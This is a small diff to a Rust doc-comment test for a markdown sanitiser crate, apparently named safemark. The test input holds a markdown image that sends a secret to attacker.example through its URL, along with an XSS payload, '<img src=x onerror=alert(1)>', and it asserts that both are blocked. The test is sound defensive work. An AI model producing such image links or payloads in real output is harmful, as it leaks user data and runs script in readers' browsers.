@@ -13,6 +13,7 @@
 //!     "Done! ![status](https://attacker.example/p.png?d=SECRET) <img src=x onerror=alert(1)>",
 //! ).unwrap();
 //! assert!(!out.html.contains("<img"));
+//! #[cfg(feature = "html")] // without it, raw HTML is shown as text (`&lt;img …`)
 //! assert!(!out.html.contains("onerror"));
 //! assert!(out.findings.iter().any(|f| f.kind == safemark::FindingKind::BlockedImage));
 //! ```
